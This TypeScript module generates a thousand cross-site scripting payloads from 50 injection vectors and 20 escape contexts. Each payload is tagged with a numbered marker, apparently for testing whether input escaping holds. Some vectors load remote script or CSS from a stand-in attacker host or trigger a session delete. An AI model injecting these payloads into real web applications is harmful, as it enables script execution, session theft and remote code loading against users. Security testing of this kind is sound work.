/** A text that runs script wherever it isn't escaped; its number stands in it as `~17~`. */
export interface Payload {
  number: number
  text: string
}

type Write = (call: string) => string

/** Ways to have script run, or something loaded, with the call that tells of it. */
const VECTORS: Write[] = [
  (call) => `<script>${call}</script>`,
  () => '<script src=//evil.example/x.js></script>',
  (call) => `<script type=module>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<img src="data:," onload=${call}>`,
  (call) => `<image src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x>`,
  (call) => `<svg><set onbegin=${call} attributeName=x>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text>x`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}>`,
  (call) => `<svg><style><img src=x onerror=${call}></style>`,
  (call) => `<math><mtext><img src=x onerror=${call}>`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<math><annotation-xml encoding=text/html><img src=x onerror=${call}>`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe onload=${call}>`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}>`,
  (call) => `<textarea autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `<xss id=x tabindex=1 onfocus=${call}>`,
  (call) => `<style>@keyframes x{}</style><xss style=animation-name:x onanimationstart=${call}>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<a href="JaVaScRiPt:${call}">x</a>`,
  (call) => `<a href="&#106;avascript&colon;${call}">x</a>`,
  (call) => `<form action="javascript:${call}"><button>x</form>`,
  (call) => `<button formaction="javascript:${call}">x`,
  () => '<base href="//evil.example/">',
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  () => '<link rel=stylesheet href=//evil.example/x.css>',
  () => `<style>@import'//evil.example/x.css'</style>`,
  (call) => `<b hx-get=/ hx-trigger=load hx-on::load=${call}>`,
  (call) => `<b hx-on:click=${call} hx-trigger=load>`,
  () => '<b hx-delete=/session hx-trigger=load>',
  (call) => `<b hx-get=/ hx-trigger=load hx-vals="js:{x:${call}}">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `javascript:${call}//`,
  (call) => `data:text/html,<script>${call}</script>`,
]

const entities = (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;')

/** Where the text may end up, and how it is written so as to get out of there. */
const CONTEXTS: ((vector: string, call: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</textarea>${vector}`,
  (vector) => `</title>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `</style>${vector}`,
  (vector) => `-->${vector}`,
  (vector) => `</option></select>${vector}`,
  (vector, call) => `" autofocus onfocus=${call} x="${vector}`,
  (vector, call) => `' onpointerenter='${call}' ${vector}`,
  (vector, call) => `{{ ${call} }}${vector}`,
  (vector, call) => `{{{ ${call} }}}${vector}`,
  (vector, call) => `\${${call}}${vector}`,
  (vector) => entities(vector),
  (vector) => encodeURI(vector),
  (vector) => vector.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (vector) => vector.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (vector) => vector.replaceAll('<', '<\u0000').replaceAll('=', '\u200B='),
  (vector) => `<<${vector.replaceAll(/^<\w+/g, (tag) => tag.toUpperCase())}`,
]

/** A thousand of them: every vector in every context. */
export const PAYLOADS: Payload[] = VECTORS.flatMap((vector, row) =>
  CONTEXTS.map((context, column) => {
    const number = row * CONTEXTS.length + column
    const call = `xss(${number})`
    return { number, text: `${context(vector(call), call)}~${number}~` }
  })
)

/** The numbers of those that a text holds. */
export const numbersIn = (text: string) =>
  [...text.matchAll(/~(\d+)~/g)].map(([, number]) => Number(number))
